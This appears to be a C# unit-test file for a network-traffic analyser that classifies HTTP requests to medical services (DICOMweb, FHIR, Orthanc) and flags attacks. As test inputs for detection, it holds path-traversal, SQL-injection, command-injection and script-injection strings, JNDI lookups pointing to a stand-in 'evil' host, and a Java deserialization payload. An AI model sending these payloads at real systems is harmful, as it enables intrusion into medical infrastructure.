using IoTGuard.Analysis.Sessions;
using static IoTGuard.Analysis.Tests.Http.HttpBytes;

namespace IoTGuard.Analysis.Tests.Http;

public sealed class HttpServiceTests
{
    private const string Uid = "1.2.276.0.7230010.3.1.2.813994";
    private const string Sha = "b76a47fa-11ae75ba-06efd789-58af0bee-9de0ec2a";

    [Theory]
    [InlineData("/", "/")]
    [InlineData("/app/index.html", "/app/index.html")]
    [InlineData("/api/v2/items/17", "/api/v2/items/{id}")]
    [InlineData("/a//b/", "/a//b/")]
    [InlineData("/report-2024.pdf", "/{id}")]
    [InlineData("/x/" + Uid, "/x/{uid}")]
    [InlineData("/users/smith/edit", "/users/{id}/edit")]
    [InlineData("/studies/" + Uid + "/series/" + Uid + "/metadata", "/studies/{uid}/series/{uid}/metadata")]
    [InlineData("/instances/" + Sha + "/preview", "/instances/{id}/preview")]
    [InlineData("/a%20b/c^d", "/{id}/{id}")]
    [InlineData("/baseR4/Patient/abc/_history/2", "/baseR4/Patient/{id}/_history/{id}")]
    [InlineData("http://host/x/y?z=1", "/x/y")]
    public void ShapesOfPaths(string target, string expected) => Assert.Contains($" path='{expected}' ", Request($"GET {target} HTTP/1.1\r\nHost: h"), StringComparison.Ordinal);

    [Theory]
    [InlineData("GET /dicom-web/studies", "service='dicomweb' operation='search' resource='studies' broad=True")]
    [InlineData("GET /dicom-web/studies?PatientName=*&limit=100", "service='dicomweb' operation='search' resource='studies' broad=True")]
    [InlineData("GET /dicom-web/studies?PatientID=4711&includefield=all", "service='dicomweb' operation='search' resource='studies'")]
    [InlineData("GET /rs/studies/" + Uid, "service='dicomweb' operation='retrieve' resource='studies' study=")]
    [InlineData("GET /rs/studies/" + Uid + "/series", "service='dicomweb' operation='search' resource='series' study=")]
    [InlineData("GET /dcm4chee-arc/aets/A/rs/studies/" + Uid + "/series/" + Uid + "/instances/" + Uid + "/frames/1", "service='dicomweb' operation='frames' resource='instances' study=")]
    [InlineData("POST /dicom-web/studies", "service='dicomweb' operation='store' resource='studies'")]
    [InlineData("DELETE /dicom-web/studies/" + Uid, "service='dicomweb' operation='delete' resource='studies'")]
    [InlineData("GET /wado?requestType=WADO&studyUID=1.2.3&seriesUID=1.2.4&objectUID=1.2.5", "service='dicomweb' operation='wado_uri' resource='instances' study=")]
    [InlineData("GET /fhir/Patient?name=doe", "service='fhir' operation='search' resource='Patient'")]
    [InlineData("GET /fhir/Patient?_count=500", "service='fhir' operation='search' resource='Patient' broad=True")]
    [InlineData("GET /fhir/Patient/17", "service='fhir' operation='read' resource='Patient' patient=")]
    [InlineData("GET /fhir/Observation?patient=17", "service='fhir' operation='search' resource='Observation' patient=")]
    [InlineData("POST /fhir/Observation", "service='fhir' operation='create' resource='Observation'")]
    [InlineData("PUT /baseR4/Patient/17", "service='fhir' operation='update' resource='Patient'")]
    [InlineData("DELETE /fhir/Patient/17", "service='fhir' operation='delete' resource='Patient'")]
    [InlineData("GET /fhir/$export", "service='fhir' operation='export'")]
    [InlineData("GET /fhir/Group/5/$export", "service='fhir' operation='export' resource='Group'")]
    [InlineData("GET /fhir/Patient/5/$everything", "service='fhir' operation='$everything' resource='Patient'")]
    [InlineData("GET /fhir/metadata", "service='fhir' operation='capabilities'")]
    [InlineData("GET /patients?expand", "service='orthanc' operation='list' resource='patients' broad=True")]
    [InlineData("GET /system", "service='orthanc' operation='read' resource='system'")]
    [InlineData("POST /tools/find", "service='orthanc' operation='find' resource='tools'")]
    [InlineData("POST /tools/execute-script", "service='orthanc' operation='execute-script' resource='tools'")]
    [InlineData("POST /modalities/evil/store", "service='orthanc' operation='store' resource='modalities'")]
    [InlineData("GET /instances/" + Sha + "/file", "service='orthanc' operation='retrieve' resource='instances' instance=")]
    [InlineData("GET /studies/" + Sha + "/archive", "service='orthanc' operation='retrieve' resource='studies' study=")]
    [InlineData("DELETE /patients/" + Sha, "service='orthanc' operation='delete' resource='patients' patient=")]
    [InlineData("POST /instances", "service='orthanc' operation='store' resource='instances'")]
    public void WhatIsAskedOfMedicalServices(string start, string expected) => Assert.Contains(expected, Request($"{start} HTTP/1.1\r\nHost: h", port: 8042), StringComparison.Ordinal);

    [Theory]
    [InlineData("GET /system")]
    [InlineData("GET /studies")]
    [InlineData("GET /Patient/17")]
    [InlineData("GET /api/users")]
    [InlineData("GET /series/breaking-bad")]
    [InlineData("GET /tools/hammer")]
    public void OtherSitesAreNotTakenForMedicalOnes(string start) => Assert.DoesNotContain("service=", Request($"{start} HTTP/1.1\r\nHost: h"), StringComparison.Ordinal);

    [Fact]
    public void HeadersTellTheServiceToo()
    {
        Assert.Contains("service='dicomweb' operation='search'", Request("GET /archive/studies HTTP/1.1\r\nHost: h\r\nAccept: application/dicom+json"), StringComparison.Ordinal);
        Assert.Contains("service='fhir' operation='read' resource='Patient'", Request("GET /Patient/17 HTTP/1.1\r\nHost: h\r\nAccept: application/fhir+json"), StringComparison.Ordinal);
        Assert.Contains("service='fhir'", Request("GET /x HTTP/1.1\r\nHost: h", response: Body("HTTP/1.1 200 OK\r\nContent-Type: application/fhir+json;charset=UTF-8", "{}")), StringComparison.Ordinal);
        Assert.Contains("service='grpc' operation='Check' resource='grpc.health.v1.Health'", Request("POST /grpc.health.v1.Health/Check HTTP/1.1\r\nHost: h\r\nContent-Type: application/grpc"), StringComparison.Ordinal);
        Assert.Contains("service='upnp' operation='AddPortMapping'", Request("POST /ctl HTTP/1.1\r\nHost: h\r\nSOAPAction: \"urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping\""), StringComparison.Ordinal);
        Assert.Contains("service='sdc' operation='GetMdib'", Request("POST /x HTTP/1.1\r\nHost: h\r\nContent-Type: application/soap+xml",
            "<s:Envelope><s:Header><wsa:Action>http://standards.ieee.org/downloads/11073/11073-20701-2018/GetService/GetMdib</wsa:Action></s:Header></s:Envelope>"), StringComparison.Ordinal);
    }

    [Fact]
    public void TheAdministrationOfAnInterfaceEngine()
    {
        var exploit = Request("POST /api/users HTTP/1.1\r\nHost: h\r\nX-Requested-With: OpenAPI\r\nContent-Type: application/xml",
            "<sorted-set><string>x</string><dynamic-proxy><interface>java.lang.Comparable</interface></dynamic-proxy></sorted-set>");
        Assert.Contains("service='interface-engine' operation='create' resource='users' suspicious='deserialization'", exploit, StringComparison.Ordinal);
        Assert.DoesNotContain("suspicious", Request("POST /api/users/_login HTTP/1.1\r\nHost: h\r\nX-Requested-With: OpenAPI\r\nContent-Type: application/x-www-form-urlencoded", "username=a&password=b"), StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("/../../etc/passwd", "path_traversal")]
    [InlineData("/a/%2e%2e/%2e%2e/b", "path_traversal")]
    [InlineData("/a/%252e%252e%252fb", "path_traversal")]
    [InlineData("/a/..%5cb", "path_traversal")]
    [InlineData("/x?file=../../../secret", "path_traversal")]
    [InlineData("/x?id=1%20UNION%20SELECT%20password", "sql_injection")]
    [InlineData("/x?id=1'+or+'1'='1", "sql_injection")]
    [InlineData("/x?c=;cat%20/etc/hosts", "command_injection")]
    [InlineData("/x?q=%3Cscript%3Ealert(1)", "script_injection")]
    [InlineData("/x?q=${jndi:ldap://evil/a}", "jndi")]
    [InlineData("/x%00.png", "null_byte")]
    public void SignsOfAttacks(string target, string expected) => Assert.Contains($"suspicious='{expected}'", Request($"GET {target} HTTP/1.1\r\nHost: h"), StringComparison.Ordinal);

    [Fact]
    public void SignsInHeaders() => Assert.Contains("suspicious='jndi'", Request("GET / HTTP/1.1\r\nHost: h\r\nUser-Agent: ${jndi:ldap://evil}"), StringComparison.Ordinal);

    [Theory]
    [InlineData("/a..b/c...d")]
    [InlineData("/x?return=../home")]
    [InlineData("/x?name=O'Brien&q=select+a+union")]
    [InlineData("/x?price=$(5)&list=a;b|c")]
    [InlineData("/Content/%C3%A4%20%3C3.html")]
    public void UsualTargetsAreNotSuspicious(string target) => Assert.DoesNotContain("suspicious", Request($"GET {target} HTTP/1.1\r\nHost: h"), StringComparison.Ordinal);
}
